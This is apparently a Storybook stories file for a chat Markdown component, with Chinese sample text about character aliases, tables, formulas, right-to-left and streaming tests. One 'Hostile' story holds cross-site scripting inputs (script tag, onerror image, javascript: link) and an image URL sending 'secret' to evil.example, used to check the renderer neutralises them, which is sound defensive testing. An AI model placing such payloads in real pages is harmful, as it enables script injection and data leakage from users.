import type { Meta, StoryObj } from '@storybook/react-vite'
import { expect, waitFor } from 'storybook/test'
import { createLiveText } from './live-text.ts'
import { Markdown } from './Markdown.tsx'

const meta = {
  title: 'Components/Chat/Markdown 正文',
  component: Markdown,
  tags: ['autodocs'],
  // Code is coloured a while after it stands there.
  parameters: { chromatic: { delay: 700 } },
  args: { text: '别名先归并，再计数。做一张「别名 → 本名」的对照表，**长的别名放在前面**，免得「宝二爷」先被「宝二」截走。' },
  decorators: [
    (Story) => (
      <main style={{ maxInlineSize: 660, padding: 24 }}>
        <Story />
      </main>
    ),
  ],
} satisfies Meta<typeof Markdown>

export default meta
type Story = StoryObj<typeof meta>

export const Paragraph: Story = {}

export const Everything: Story = {
  args: {
    text: `# 红楼人物

正文有 **重点**、*强调*、~~删去~~、\`code\`、[链接](https://example.com) 与网址 https://example.com/a。后面是中文。

## 列表

1. 先归并
   - 别名在前
   - 本名在后
2. 再计数

- [x] 对照表
- [ ] 判词

> 真事隐去，假语村言。

| 人物 | 主要别名 | 出场 | 占比 |
| --- | --- | ---: | ---: |
| 贾宝玉 | 宝二爷、怡红公子 | 3,842 | 18.6% |
| 林黛玉 | 颦儿、潇湘妃子 | 1,371 | 6.6% |

行内 $E = mc^2$，价格 $5 与 $10 不是公式。

$$
\\int_0^1 \\frac{x^2}{\\sqrt{1+x}}\\,dx
$$

---

\`\`\`python
def count(text: str) -> Counter:
    return Counter(ALIAS.get(h, h) for h in hits)
\`\`\`
`,
  },
}

/** What a model wrote is words: nothing runs, and no other site is asked for anything. */
export const Hostile: Story = {
  tags: ['P24', 'P25'],
  args: {
    text: '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> [点我](javascript:alert(1)) ![小猫](https://evil.example/cat.png?q=secret) [同站](/settings)',
  },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvasElement.querySelector('script, img, [onerror]')).toBeNull()
    await waitFor(() => expect(canvas.getByText(/<script>/)).toBeVisible())
    await expect(canvas.getAllByRole('link')).toHaveLength(1)
    const picture = canvas.getByRole('link', { name: '小猫 ‹evil.example›' })
    await expect(picture).toHaveAttribute('rel', 'noopener noreferrer nofollow')
  },
}

/** Arabic runs from the right, in its own paragraph only. */
export const RightToLeft: Story = {
  tags: ['P32'],
  args: { text: 'English first.\n\nمرحبا بالعالم، هذا نص عربي.\n\n- واحد\n- two' },
  play: async ({ canvas }) => {
    const runs = (words: string | RegExp) => getComputedStyle(canvas.getByText(words)).direction
    await waitFor(() => expect([runs('English first.'), runs(/مرحبا/), runs('واحد'), runs('two')]).toEqual(['ltr', 'rtl', 'rtl', 'ltr']))
  },
}

export const TooMuchText: Story = {
  args: {
    text: `${'长'.repeat(400)}\n\n\`${'code'.repeat(80)}\`\n\n| ${'很宽的表头 | '.repeat(8)}\n| ${'--- | '.repeat(8)}\n| ${'一格里有很多很多字 | '.repeat(8)}`,
  },
}

/** The dot breathes after the last word, and an open listing is one already; where the engine broke off inside of it, it still is. */
export const Unfinished: Story = {
  args: { text: '先归并：\n\n```python\nALIAS = {"宝二爷": "宝玉"', writing: true },
  render: (args) => (
    <>
      <Markdown {...args} />
      <Markdown {...args} writing={false} />
    </>
  ),
}

/** A text that grows keeps the blocks it has: the first paragraph stays the same element. */
export const GrowsInPlace: Story = {
  args: { text: createLiveText('第一段。\n\n'), writing: true },
  parameters: { chromatic: { disableSnapshot: true } },
  play: async ({ args, canvas }) => {
    const { text } = args
    if (typeof text === 'string') throw new Error('This story writes')
    text.replace('第一段。\n\n')
    const first = await canvas.findByText('第一段。')

    text.append('第二段**很')
    await waitFor(() => expect(canvas.getByText('第二段**很')).toBeVisible())
    text.append('重要**。\n\n- 一\n- 二')

    await waitFor(() => expect(canvas.getByText('很重要')).toBeVisible())
    await expect(canvas.getByText('第一段。')).toBe(first)
    await expect(canvas.getAllByRole('listitem')).toHaveLength(2)
  },
}

/** A wide table is a stop of the tab key, so that it scrolls without a mouse. */
export const ScrolledByKeyboard: Story = {
  args: { text: `| ${'很宽的表头 | '.repeat(12)}\n| ${'--- | '.repeat(12)}\n| ${'一格里有很多很多字 | '.repeat(12)}` },
  parameters: { chromatic: { disableSnapshot: true } },
  play: async ({ canvas, userEvent }) => {
    await userEvent.tab()

    await expect(document.activeElement).toContainElement(canvas.getByRole('table'))
  },
}
